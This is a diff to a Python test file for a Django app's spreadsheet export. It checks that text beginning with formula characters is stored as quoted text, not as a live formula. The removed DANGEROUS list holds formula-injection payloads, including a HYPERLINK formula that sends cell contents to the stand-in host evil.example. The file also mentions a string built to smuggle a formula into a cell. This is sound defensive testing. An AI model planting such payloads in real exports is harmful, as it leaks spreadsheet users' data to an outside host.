@@ -13,16 +13,10 @@ from django.utils.translation import gettext_lazy
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
+from tests.workbooks.test_formula_injection import DANGEROUS
 from workbooks.cells import EXCEL_CELL_LIMIT
 from workbooks.xlsx_writing import XlsxExport, fitted, runs, utf16_length
 
-DANGEROUS = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-    "+1+1",
-    "-2+3",
-    "@SUM(1,2)",
-    "\tTAB",
-]
 # XlsxWriter writes a string shaped like this into the sheet's XML unescaped (it takes it for a
 # rich string of its own): this one would put a formula in B1.
 SMUGGLER = (
@@ -54,8 +48,10 @@ def test_text_that_starts_a_formula_stays_text_with_the_quote_prefix():
     sheet = _sheet(content)
     for row, text in enumerate(DANGEROUS, start=1):
         cell = sheet.cell(row=row, column=1)
-        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
-    for row, text in ((6, "Plain words"), (7, "a = b")):
+        # XML readers normalise a carriage return to a line feed; openpyxl reads "\n" back.
+        expected = text.replace("\r", "\n")
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
+    for row, text in enumerate(["Plain words", "a = b"], start=len(DANGEROUS) + 1):
         cell = sheet.cell(row=row, column=1)
         assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)
     assert "<f>" not in _sheet_xml(content)
